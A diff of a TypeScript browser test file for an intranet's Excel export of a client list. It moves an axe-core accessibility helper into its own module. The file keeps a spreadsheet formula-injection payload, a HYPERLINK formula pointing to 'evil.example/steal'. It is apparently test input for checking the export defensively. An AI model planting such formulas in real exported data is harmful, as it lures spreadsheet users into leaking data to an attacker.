@@ -9,7 +9,6 @@
  */
 import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
-import { createRequire } from 'node:module';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -25,11 +24,11 @@ import { staticFiles } from '../../core/http/static-files.ts';
 import type { Database } from '../../core/storage/database.ts';
 import { freshDatabase } from '../engines.ts';
 import { PASSWORD, smallFirm, type SmallFirm } from '../fixtures/small-firm.ts';
+import { axeProblems } from './axe.ts';
 import { builtWidgets } from './built-widgets.ts';
 import { launchChromium, type BrowserSession, type WatchedPage } from './chromium.ts';
 
 const artifacts = join(import.meta.dirname, '.artifacts');
-const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal","Kliknij")';
 const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));
 
@@ -102,17 +101,6 @@ async function signIn(email: string, profile: 0 | 1): Promise<WatchedPage> {
   await w.page.getByRole('button', { name: 'Zaloguj' }).click();
   await list(w.page).locator('[part=row]').first().waitFor({ timeout: 20_000 });
   return w;
-}
-
-async function axeProblems(p: Page): Promise<string[]> {
-  await p.evaluate(axeSource); // evaluated by the DevTools protocol: the page's strict CSP does not apply
-  return p.evaluate(async () => {
-    // any: axe is a global the evaluated script defined
-    const r = await (window as any).axe.run(document, { resultTypes: ['violations'] });
-    return (r.violations as { id: string; impact: string; nodes: { target: unknown }[] }[])
-      .filter((v) => v.impact === 'serious' || v.impact === 'critical')
-      .map((v) => `${v.id}: ${JSON.stringify(v.nodes.map((n) => n.target))}`);
-  });
 }
 
 describe('intranet: Excel export of the client list', { timeout: 120_000 }, () => {
